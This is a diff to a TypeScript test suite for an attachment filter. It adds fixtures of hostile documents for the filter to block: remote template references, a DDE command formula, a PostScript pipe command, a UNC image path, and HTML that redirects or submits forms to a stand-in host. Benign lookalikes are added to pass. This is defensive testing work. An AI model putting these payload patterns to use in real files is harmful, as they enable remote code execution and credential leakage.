@@ -113,6 +113,13 @@ function twoNames(plain: string, unicode: string): Buffer {
   return Buffer.concat([whole.subarray(0, directory), central, extra, tail]);
 }
 
+/** Entries of a Word file whose document says `text`. */
+const packageOf = (text: string) => [
+  { name: '_rels/.rels', content: rels({ officeDocument: 'word/document.xml' }) },
+  { name: 'word/document.xml', content: `<w:document><w:body><w:t>${text}</w:t></w:body></w:document>` },
+];
+const flat = (part: string) =>
+  `<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">${part}</pkg:package>`;
 const long = 'Please wait while the document is loaded. '.repeat(20);
 
 describe('R-101 R-102 hostile attachments are stopped', () => {
@@ -179,6 +186,21 @@ describe('R-101 R-102 hostile attachments are stopped', () => {
       'plan.fodt',
       '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><ooo:module>Shell("calc")</ooo:module></office:document>',
     ],
+    ['plan.docx', zipOf([...packageOf('plan'), { name: 'word/document.xml', content: '<w:document/>' }])],
+    [
+      'plan.doc',
+      `${flat('<Relationship Type="x/attachedTemplate" Target="https://host.example/t.dotm" TargetMode="External"/>')}`,
+    ],
+    [
+      'plan.doc',
+      '<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:attachedTemplate w:val="https://host.example/t.dot"/></w:wordDocument>',
+    ],
+    [
+      'plan.doc',
+      `<html><!--[if gte mso 9]><xml><w:AttachedTemplate HRef="https://host.example/t.dot"/></xml><![endif]--><p>${long}</p></html>`,
+    ],
+    ['list.xls', "<html><table><tr><td>=cmd|'/c calc'!A0</td></tr></table></html>"],
+    ['print.ps', '%!PS\n(%pipe%calc) (w) file closefile\n'],
     // Pictures and XML that a browser runs.
     ['logo.svg', `<svg xmlns="http://www.w3.org/2000/svg"><g onload="run()"/></svg>`],
     ['logo.svg', `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>run()</s:script></s:svg>`],
@@ -212,6 +234,13 @@ describe('R-101 R-102 hostile attachments are stopped', () => {
       'a.html',
       '<html><script>fetch("https://host.example/p").then(r=>r.text()).then(t=>document.documentElement.innerHTML=t)</script></html>',
     ],
+    ['a.html', `<html><p>${long}</p><img src="\\\\host.example\\a.png"></html>`],
+    ['a.html', `<html><p>${long}</p><script language="JScript.Encode">#@~^CAAAAA==abc^#~@</script></html>`],
+    ['a.html', '<html><base href="https://host.example/"><script src="a.js"></script></html>'],
+    ['a.html', '<html><script>self["loc"+"ation"]["hr"+"ef"]="https:"+"//host.example"</script></html>'],
+    ['a.html', '<html><form id=f action="https://host.example/"></form><script>f.submit()</script></html>'],
+    ['a.html', '<html><a id=a href="https://host.example/"></a><script>a.click()</script></html>'],
+    ['a.html', '<html><applet code="a.class"></applet></html>'],
     // PDF.
     ['a.pdf', open('/S /L#61unch /F <636d642e657865>')],
     ['a.pdf', open('/S /SubmitForm /F (\\\\\\\\host.example\\\\a)')],
@@ -243,6 +272,10 @@ describe('R-101 R-102 what looks like them goes through', () => {
         { name: 'docs.txt', content: 'x' },
       ]),
     ],
+    ['plan.docx', zipOf(packageOf('plan'))],
+    ['a.html', `<html><p>${long}</p><a href="https://host.example/">on</a><script>menu.click()</script></html>`],
+    ['a.html', '<html><p>hello</p><img src="//host.example/a.png"><img src="file:///C:/a.png"></html>'],
+    ['print.ps', '%!PS\n(through a pipe) show\n'],
     ['plan.docx', letterWith({ image: '!file:///C:/pictures/a.png', hyperlink: '!https://host.example/' })],
     ['plan.docx', letterWith({ image: '!\\\\fileserver\\share\\a.png' })],
     ['plan.docx', letterWith({ image: '!\\\\192.168.1.4\\share\\a.png' })],
